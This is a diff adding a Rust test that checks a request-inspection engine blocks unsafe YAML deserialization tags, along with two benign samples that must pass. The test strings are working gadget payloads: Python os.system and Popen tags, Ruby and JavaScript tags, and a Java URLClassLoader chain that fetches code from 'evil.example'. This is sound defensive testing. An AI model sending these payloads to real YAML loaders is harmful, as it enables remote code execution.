@@ -444,3 +444,36 @@ fn compressed_bodies_are_inspected_as_the_app_inflates_them() {
         .hits
         .is_empty());
 }
+
+#[test]
+fn yaml_deserialization_tags() {
+    let e = engine();
+    let yaml = "application/yaml";
+    for body in [
+        "cmd: !!python/object/apply:os.system ['id']",
+        "x: !!python/name:subprocess.Popen",
+        "--- !ruby/object:Gem::Installer\ni: x",
+        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]",
+        "f: !!js/function 'function(){ return process.mainModule }'",
+        "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']",
+    ] {
+        assert_blocked_by(&post(&e, "/import", yaml, body), 170190);
+    }
+    // The same tags inside a form field (the app may feed a field to its YAML loader).
+    assert_blocked_by(
+        &post(
+            &e,
+            "/import",
+            "application/x-www-form-urlencoded",
+            "config=%21%21python%2Fobject%2Fapply%3Aos.system+%5B%27id%27%5D",
+        ),
+        170190,
+    );
+    // Core YAML tags and exclamation marks in clinical text are not deserialization.
+    for body in [
+        "count: !!int \"3\"\nname: !!str 007\nflag: !!bool yes",
+        "note: Pain 9/10!! Patient asked for org. chart of the ward; java. (coffee) declined.",
+    ] {
+        assert!(post(&e, "/import", yaml, body).hits.is_empty(), "{body}");
+    }
+}
